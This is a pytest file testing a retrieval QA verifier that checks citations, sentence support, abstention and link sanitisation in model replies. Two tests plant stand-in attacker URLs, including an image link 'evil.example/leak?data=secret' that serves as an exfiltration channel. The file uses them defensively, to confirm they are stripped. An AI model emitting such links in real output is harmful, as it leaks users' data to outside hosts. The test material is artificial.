"""Checking a model reply against the passages: markers, support, links, abstention."""

from __future__ import annotations

from typing import Any

import pytest

from qa_service.answer.models import Answer, AnswerMode, abstention_text
from qa_service.answer.verify import check_reply, sanitize_links
from qa_service.embedding import Embedder
from qa_service.schemas import Passage
from qa_service.tokens import Tokenizer
from tests.answer.conftest import KOREAN_PAGE_PREFIX, assert_citations_exact, make_passages

QUESTION = "How long does the Aurora 3 battery last, and what does it weigh?"


def check(reply: str, passages: list[Passage], tokenizer: Tokenizer, threshold: float = 0.5,
          question: str = QUESTION) -> Answer:
    return check_reply(question, reply, passages, tokenizer, threshold)


def test_cited_sentences_are_kept_with_verbatim_quotes(english: list[Passage],
                                                       tokenizer: Tokenizer) -> None:
    reply = ("The Aurora 3 battery lasts 14 hours on one charge [1]. "
             "It weighs 1.2 kilograms [2].")
    answer = check(reply, english, tokenizer)
    assert answer.mode is AnswerMode.LLM and not answer.abstained
    assert answer.answer == ("The Aurora 3 battery lasts 14 hours on one charge. [1] "
                             "It weighs 1.2 kilograms. [2]")
    assert [(c.number, c.quote) for c in answer.citations] == [
        (1, "The Aurora 3 battery lasts 14 hours on a single charge."),
        (2, "The Aurora 3 weighs 1.2 kilograms."),
    ]
    first, second = answer.citations
    assert answer.answer[first.answer_start:first.answer_end] == (
        "The Aurora 3 battery lasts 14 hours on one charge.")
    assert answer.answer[second.answer_start:second.answer_end] == "It weighs 1.2 kilograms."
    assert (answer.removed_citations, answer.unsupported_sentences) == (0, 0)
    assert answer.passages == english
    assert_citations_exact(answer)


@pytest.mark.parametrize("reply", [
    "The battery lasts 14 hours on a single charge. [1] It weighs 1.2 kilograms. [2]",
    "The battery lasts 14 hours on a single charge.[1] It weighs 1.2 kilograms.[2]",
    "The battery lasts 14 hours on a single charge [1] . It weighs 1.2 kilograms [ 2 ].",
    "The battery lasts 14 hours on a single charge [Passage 1]. It weighs 1.2 kilograms [2].",
])
def test_marker_placements_are_understood(reply: str, english: list[Passage],
                                          tokenizer: Tokenizer) -> None:
    answer = check(reply, english, tokenizer)
    assert [c.number for c in answer.citations] == [1, 2]
    assert answer.answer.endswith("It weighs 1.2 kilograms. [2]")
    assert_citations_exact(answer)


def test_one_sentence_may_cite_several_passages(english: list[Passage],
                                                tokenizer: Tokenizer) -> None:
    reply = "The battery lasts 14 hours and the device weighs 1.2 kilograms [1, 2]."
    answer = check(reply, english, tokenizer)
    assert answer.answer.endswith(". [1][2]")
    assert [c.number for c in answer.citations] == [1, 2]
    assert {(c.answer_start, c.answer_end) for c in answer.citations} == {
        (0, len("The battery lasts 14 hours and the device weighs 1.2 kilograms."))}
    assert_citations_exact(answer)


def test_invented_citation_is_dropped_and_counted(english: list[Passage],
                                                  tokenizer: Tokenizer) -> None:
    answer = check("The battery lasts 14 hours on a single charge [1][9]. It weighs "
                   "1.2 kilograms [0][2].", english, tokenizer)
    assert "[9]" not in answer.answer and "[0]" not in answer.answer
    assert answer.removed_citations == 2
    assert [c.number for c in answer.citations] == [1, 2]
    assert_citations_exact(answer)


def test_sentence_citing_only_an_invented_passage_is_checked_against_all(
        english: list[Passage], tokenizer: Tokenizer) -> None:
    answer = check("Charging from empty takes 2 hours [7].", english, tokenizer)
    assert answer.removed_citations == 1
    assert answer.answer == "Charging from empty takes 2 hours. [1]"
    assert answer.citations[0].quote == (
        "Charging from empty takes 2 hours with the supplied adapter.")
    assert_citations_exact(answer)


def test_unsupported_sentence_is_removed_and_counted(english: list[Passage],
                                                     tokenizer: Tokenizer) -> None:
    reply = ("The battery lasts 14 hours on a single charge [1]. "
             "The Aurora 3 was designed by Ada Lovelace in 1843 [2]. "
             "It weighs 1.2 kilograms [2].")
    answer = check(reply, english, tokenizer)
    assert answer.unsupported_sentences == 1
    assert "Lovelace" not in answer.answer
    assert answer.answer == ("The battery lasts 14 hours on a single charge. [1] "
                             "It weighs 1.2 kilograms. [2]")
    assert_citations_exact(answer)


def test_sentence_citing_the_wrong_passage_cites_the_one_that_supports_it(
        english: list[Passage], tokenizer: Tokenizer) -> None:
    answer = check("The battery lasts 14 hours on a single charge [3]. It weighs 1.2 "
                   "kilograms [2].", english, tokenizer)
    assert (answer.unsupported_sentences, answer.removed_citations) == (0, 1)
    assert answer.answer == ("The battery lasts 14 hours on a single charge. [1] "
                             "It weighs 1.2 kilograms. [2]")
    assert_citations_exact(answer)


def test_sentence_no_passage_supports_is_removed_whatever_it_cites(
        english: list[Passage], tokenizer: Tokenizer) -> None:
    answer = check("The battery was designed in Oslo by Ada Lovelace [3]. It weighs 1.2 "
                   "kilograms [2].", english, tokenizer)
    assert (answer.unsupported_sentences, answer.removed_citations) == (1, 0)
    assert answer.answer == "It weighs 1.2 kilograms. [2]"


def test_uncited_supported_sentence_gets_the_best_passage(english: list[Passage],
                                                          tokenizer: Tokenizer) -> None:
    answer = check("Hold the power button for ten seconds to reset it.", english, tokenizer)
    assert answer.answer == "Hold the power button for ten seconds to reset it. [3]"
    assert answer.citations[0].quote == (
        "To reset the Aurora 3, hold the power button for ten seconds.")
    assert_citations_exact(answer)


def test_window_spans_neighbouring_sentences_but_not_the_whole_passage(
        tokenizer: Tokenizer) -> None:
    passages = make_passages([
        "The pump runs on diesel. It delivers forty litres per minute. Maintenance is "
        "yearly. The casing is painted green. Spare parts ship from Oslo. The warranty "
        "lasts five years."])
    merged = check("The diesel pump delivers forty litres per minute [1].", passages, tokenizer,
                   threshold=0.75)
    assert not merged.abstained and merged.unsupported_sentences == 0
    assert merged.citations[0].quote == "It delivers forty litres per minute."
    # every word is in the passage, but the two halves lie sentences apart: 5/9 at best
    scattered = check("The diesel pump delivers forty litres and its warranty lasts five "
                      "years [1].", passages, tokenizer, threshold=0.75)
    assert scattered.abstained and scattered.unsupported_sentences == 1


def test_threshold_bounds(english: list[Passage], tokenizer: Tokenizer) -> None:
    invented = "The Aurora 3 was designed by Ada Lovelace in 1843 [2]."
    assert not check(invented, english, tokenizer, threshold=0.0).abstained
    exact = "The Aurora 3 weighs 1.2 kilograms [2]."
    assert not check(exact, english, tokenizer, threshold=1.0).abstained
    assert check("The Aurora 3 weighs 1.2 heavy kilograms [2].", english, tokenizer,
                 threshold=1.0).abstained


def test_short_sentences_follow_their_neighbour(english: list[Passage],
                                                tokenizer: Tokenizer) -> None:
    answer = check("Yes. The battery lasts 14 hours on a single charge [1].", english, tokenizer)
    assert answer.answer == "Yes. The battery lasts 14 hours on a single charge. [1]"
    assert answer.answer[answer.citations[0].answer_start:answer.citations[0].answer_end] == (
        "Yes. The battery lasts 14 hours on a single charge.")
    assert check("Yes.", english, tokenizer).abstained
    unsupported = check("Indeed. The Aurora 3 was designed by Ada Lovelace [2].", english,
                        tokenizer)
    assert unsupported.abstained and unsupported.unsupported_sentences == 1


def test_lines_and_list_items_are_kept_apart(english: list[Passage],
                                             tokenizer: Tokenizer) -> None:
    reply = ("1. The battery lasts 14 hours on a single charge [1]\n"
             "2. It was designed by Ada Lovelace in 1843 [2]\n"
             "3. It weighs 1.2 kilograms [2]\n\nThe status light blinks blue [3].")
    answer = check(reply, english, tokenizer)
    assert answer.answer == ("1. The battery lasts 14 hours on a single charge [1]\n"
                             "3. It weighs 1.2 kilograms [2]\n\n"
                             "The status light blinks blue. [3]")
    assert answer.unsupported_sentences == 1
    assert_citations_exact(answer)


@pytest.mark.parametrize("reply", ["NOT_IN_DOCUMENTS", "  NOT_IN_DOCUMENTS.\n",
                                   "`NOT\\_IN\\_DOCUMENTS`", "", "   \n", "not_in_documents"])
def test_decline_or_empty_reply_abstains(reply: str, english: list[Passage],
                                         tokenizer: Tokenizer) -> None:
    answer = check(reply, english, tokenizer)
    assert answer.abstained and answer.mode is AnswerMode.LLM
    assert answer.answer == abstention_text(QUESTION)
    assert answer.citations == [] and answer.passages == english


def test_decline_token_inside_a_reply_is_removed(english: list[Passage],
                                                 tokenizer: Tokenizer) -> None:
    answer = check("The battery lasts 14 hours on a single charge [1]. NOT_IN_DOCUMENTS",
                   english, tokenizer)
    assert answer.answer == "The battery lasts 14 hours on a single charge. [1]"


def test_nothing_supported_abstains_with_counts(english: list[Passage],
                                                tokenizer: Tokenizer) -> None:
    answer = check("Paris is the capital of France [1]. Rome has the Colosseum [4].",
                   english, tokenizer)
    assert answer.abstained and answer.answer == abstention_text(QUESTION)
    assert (answer.unsupported_sentences, answer.removed_citations) == (2, 1)
    assert answer.citations == []


def test_images_links_and_urls_are_removed_even_in_supported_sentences(
        english: list[Passage], tokenizer: Tokenizer) -> None:
    reply = ("The battery lasts 14 hours on a single charge ![chart](http://evil.example/c.png) "
             "[see more](http://evil.example/more) at http://evil.example/x?q=1 and "
             "www.evil.example [1]. It weighs 1.2 kilograms <img src=\"https://evil.example/p\"> "
             "data:image/png;base64,AAAA <http://evil.example/auto> [2].")
    answer = check(reply, english, tokenizer)
    assert "evil" not in answer.answer and "data:" not in answer.answer
    assert "http" not in answer.answer and "www" not in answer.answer
    assert "see more" in answer.answer
    assert [c.number for c in answer.citations] == [1, 2]
    assert_citations_exact(answer)


def test_urls_written_in_a_passage_are_kept(english: list[Passage],
                                            tokenizer: Tokenizer) -> None:
    reply = ("Product pages are at https://aurora.example/support [3]. "
             "See [the support page](https://aurora.example/support) for the reset [3].")
    answer = check(reply, english, tokenizer)
    assert "Product pages are at https://aurora.example/support." in answer.answer
    assert "[the support page](https://aurora.example/support)" in answer.answer


def test_link_rules() -> None:
    allowed = frozenset({"https://ok.example/a"})
    assert sanitize_links("see https://ok.example/a.", allowed) == "see https://ok.example/a."
    assert sanitize_links("see https://ok.example/a/more.", allowed) == "see ."
    assert sanitize_links("see https://ok.example.", allowed) == "see ."
    assert sanitize_links("[a](https://ok.example/a) [b](https://x.example)", allowed) == (
        "[a](https://ok.example/a) b")
    assert sanitize_links("![a](https://ok.example/a)x", allowed) == "x"
    assert sanitize_links("Paris [1](https://x.example).", allowed) == "Paris [1]."


def test_image_url_in_a_passage_is_not_a_link_it_offers(tokenizer: Tokenizer) -> None:
    passages = make_passages(["Revenue grew by 10 percent. "
                              "![x](http://evil.example/leak?data=secret)"])
    answer = check("Revenue grew by 10 percent [1]. http://evil.example/leak?data=secret",
                   passages, tokenizer)
    assert answer.answer == "Revenue grew by 10 percent. [1]"


def test_escaped_entities_are_decoded(tokenizer: Tokenizer) -> None:
    passages = make_passages(["Profit & loss: revenue < costs in 2023."])
    answer = check("Profit &amp; loss shows revenue &lt; costs in 2023 [1].", passages,
                   tokenizer)
    assert answer.answer == "Profit & loss shows revenue < costs in 2023. [1]"


def test_korean_reply_is_checked(korean: list[Passage], tokenizer: Tokenizer) -> None:
    question = "대한민국의 수도는 어디인가요?"
    answer = check("대한민국의 수도는 서울입니다 [1]. 서울에는 한강이 흐릅니다. "
                   "부산은 일본의 수도입니다 [2].", korean, tokenizer, question=question)
    assert answer.answer == "대한민국의 수도는 서울입니다. [1] 서울에는 한강이 흐릅니다. [1]"
    assert answer.unsupported_sentences == 1
    assert [c.quote for c in answer.citations] == [
        "서울은 대한민국의 수도이다.", "한강이 도시를 가로질러 흐른다."]
    assert_citations_exact(answer, KOREAN_PAGE_PREFIX)
    declined = check("NOT_IN_DOCUMENTS", korean, tokenizer, question=question)
    assert declined.abstained and declined.answer == abstention_text(question)
    assert declined.answer.startswith("문서에는")


def test_no_passages_abstains(tokenizer: Tokenizer) -> None:
    answer = check("The battery lasts 14 hours [1].", [], tokenizer)
    assert answer.abstained and answer.passages == []


@pytest.fixture
def encode(embedder: Embedder) -> Any:
    return embedder.embed_passages


def test_a_sentence_in_the_other_language_is_supported_by_its_meaning(
        english: list[Passage], korean: list[Passage], tokenizer: Tokenizer,
        encode: Any) -> None:
    reply = ("Aurora 3 배터리는 한 번 충전으로 14시간 사용할 수 있다. [1] "
             "Aurora 3 배터리는 40시간 사용할 수 있다. [1] 이 제품은 일본에서만 판매된다. [2]")
    answer = check_reply("Aurora 3 배터리는 얼마나 가나요?", reply, english, tokenizer, 0.5,
                         encode)
    # the translation is kept, quoting the sentence it translates; a changed figure and
    # another claim are not
    assert answer.answer == "Aurora 3 배터리는 한 번 충전으로 14시간 사용할 수 있다. [1]"
    assert answer.unsupported_sentences == 2
    assert [c.quote for c in answer.citations] == [
        "The Aurora 3 battery lasts 14 hours on a single charge."]
    assert_citations_exact(answer)
    english_reply = ("Seoul is the capital of South Korea [1]. Seoul is the largest port of "
                     "Japan [1].")
    answer = check_reply("What is the capital of Korea?", english_reply, korean, tokenizer, 0.5,
                         encode)
    assert answer.answer == "Seoul is the capital of South Korea. [1]"
    assert answer.citations[0].quote == "서울은 대한민국의 수도이다."
    assert_citations_exact(answer, KOREAN_PAGE_PREFIX)
    # without vectors, words alone decide: nothing in the other language is supported
    assert check_reply("What is the capital of Korea?", english_reply, korean, tokenizer,
                       0.5).abstained


def test_a_figure_the_passages_do_not_write_is_unsupported(english: list[Passage],
                                                           tokenizer: Tokenizer) -> None:
    """A plausible invented number shares every other word with its passage."""
    answer = check("The Aurora 3 battery lasts 16 hours on a single charge [1]. It weighs "
                   "1.2 kilograms [2]. The battery has a 2-year warranty [1].", english,
                   tokenizer)
    assert answer.unsupported_sentences == 1 and "16 hours" not in answer.answer
    assert "1.2 kilograms" in answer.answer and "2-year warranty" in answer.answer  # "two-year"
    glued = make_passages(["시스템 개발 비용 합계 금액 | 118,000,00018,000,000\n"
                           "지원 비용 | 11,500,0001,500,000"])
    kept = check("시스템 개발 비용 합계 금액은 18,000,000 [1].", glued, tokenizer)
    assert not kept.abstained  # a table cell glued to its neighbour still holds the figure
